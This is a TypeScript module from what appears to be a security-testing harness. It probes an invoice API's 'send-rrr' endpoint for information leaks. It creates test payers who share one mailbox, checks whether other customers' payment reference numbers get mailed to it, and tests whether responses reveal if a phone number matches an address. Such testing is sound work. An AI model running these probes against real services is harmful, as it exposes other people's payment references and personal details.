import type { Finding } from '../attack.ts';
import { newcomer, order, type Payer } from '../target/applicants.ts';
import { mailsTo, nextMail } from '../target/mailbox.ts';
import type { Browser } from '../target/browser.ts';
import type { Target } from '../target/target.ts';

const CUSTOMERS = 21;
const JUPEB = 5;
const ASKED = /asked for the RRR/;
const THE_RRR = /asked for the RRR[^]*?RRR:?\s*(?:<[^>]*>\s*)*(\d{12})/;

const forget = (browser: Browser, contact: string, number?: string) =>
  browser.call('POST', '/api/ApplicationInvoice/send-rrr', { body: { applicationTypeId: JUPEB, contact, number } });

/** A café's address stands on its customers' invoices. Whoever reads that mailbox asks for what else has come by it. */
export async function sharedMailbox(target: Target): Promise<Finding[]> {
  const email = `cafe${target.random.letters(9)}@matricula.example`;
  const customers: Payer[] = [];
  for (let nth = 0; nth < target.times(CUSTOMERS, 3); nth += 1) customers.push(await customer(target, email));
  const [owner, ...others] = customers as [Payer, ...Payer[]];
  const reader = target.stranger();
  const seen = (await mailsTo(reader, email)).length;
  const alone = await forget(target.stranger(), email);
  const wrong = await forget(target.stranger(), email, (await newcomer(target)).phone);
  const right = await forget(target.stranger(), email, owner.phone);
  const shown = await nextMail(reader, email, seen, THE_RRR);
  const asked = await forgottenMails(reader, email, seen);
  const named = others.filter(({ rrr, surname }) => asked.some((mail) => mail.includes(rrr) || mail.includes(surname)));
  return [
    ...(alone.status === 200
      ? [
          {
            what: 'A forgotten RRR is asked for by an email address alone',
            reproduce: 'POST /api/ApplicationInvoice/send-rrr with an address and no number',
          },
        ]
      : []),
    ...(named.length > 0
      ? [
          {
            what: `A mailbox that ${customers.length} people share was mailed the RRRs of ${named.length} who did not ask`,
            reproduce: 'POST /api/ApplicationInvoice/send-rrr with the address of several invoices',
          },
        ]
      : []),
    ...(shown === owner.rrr && asked.length === 1
      ? []
      : [
          {
            what: `Who asked by address and number was mailed ${asked.length} times, with the RRR ${shown === owner.rrr ? 'asked for' : 'of another'}`,
            reproduce: 'POST /api/ApplicationInvoice/send-rrr with address and phone number',
          },
        ]),
    ...(wrong.text === right.text && wrong.status === right.status
      ? []
      : [
          {
            what: 'Whether a number fits an address is told by the answer',
            reproduce: `${wrong.text} beside ${right.text}`,
          },
        ]),
  ];
}

async function customer(target: Target, email: string): Promise<Payer> {
  const somebody = { ...(await newcomer(target)), email };
  const { data, text } = await order(somebody);
  if (!data?.rrr) throw new Error(`No invoice: ${text}`);
  return { ...somebody, rrr: data.rrr, invoice: data };
}

/** Requests are answered in their order, so once the last is answered all that came of the others is there. */
async function forgottenMails(reader: Browser, email: string, seen: number): Promise<string[]> {
  const addresses = await mailsTo(reader, email);
  const mails = await Promise.all(
    addresses.slice(0, addresses.length - seen).map(async (address) => (await reader.call('GET', address)).text),
  );
  return mails.filter((mail) => ASKED.test(mail));
}
